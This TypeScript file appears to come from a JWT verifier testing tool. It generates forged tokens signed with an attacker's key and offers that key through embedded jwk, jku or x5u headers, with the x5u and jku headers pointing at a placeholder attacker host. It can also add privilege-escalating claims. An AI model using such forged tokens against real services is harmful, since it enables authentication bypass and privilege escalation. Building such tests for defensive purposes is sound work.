import fc from 'fast-check';
import { encodeJson } from '../compact.ts';
import type { JwtKit } from '../kit.ts';
import { claimsFor, escalationNote, type JwtMutation } from '../mutation.ts';
import { signJws } from '../sign.ts';

/** Where an attacker hosts their keys: a name that never resolves (RFC 6761 `.invalid`). */
const ATTACKER_ORIGIN = 'https://attacker.gatecheck.invalid';

/**
 * Tokens signed with the attacker's own key, which the header offers as the key to verify with: embedded
 * as `jwk`, or pointed at by `jku` / `x5u`; `kid` the attacker's or the target's own.
 *
 * RFC 7515 §4.1.2, §4.1.3, §4.1.5 define `jku`, `jwk` and `x5u` as hints about the key, and §6 leaves
 * which keys are trusted to the recipient; a target that takes the key from the token itself accepts any
 * token. RFC 8725 §3.10: following `jku`/`x5u` also invites SSRF.
 *
 *   JWS = BASE64URL({"alg":"RS256","jwk":{attacker public key}}) "." claims "." SIGN(attacker private key)
 */
export function embeddedKeyMutation(
  kit: JwtKit,
  escalate: fc.Arbitrary<boolean> = fc.boolean(),
): fc.Arbitrary<JwtMutation> {
  return fc
    .record({
      key: fc.constantFrom(...kit.attackers),
      via: fc.constantFrom('jwk', 'jku', 'x5u'),
      targetKid: fc.boolean(),
      escalate,
    })
    .map(({ key, via, targetKid, escalate: up }) => {
      const kid = targetKid && typeof kit.header.kid === 'string' ? kit.header.kid : key.jwk.kid;
      const pointer =
        via === 'jwk'
          ? { jwk: key.jwk }
          : via === 'jku'
            ? { jku: `${ATTACKER_ORIGIN}/.well-known/jwks.json` }
            : { x5u: `${ATTACKER_ORIGIN}/cert.pem` };
      const header = { alg: key.alg, typ: 'JWT', kid, ...pointer };
      const input = `${encodeJson(header)}.${encodeJson(claimsFor(kit, up))}`;
      return {
        attack: 'embedded-key',
        variant: `${key.alg} signed with the attacker's key, offered by ${via}, kid ${targetKid ? "the target's" : "the attacker's"}${escalationNote(up)}`,
        token: `${input}.${signJws(key.alg, key.privateKey, input)}`,
        escalated: up,
      };
    });
}
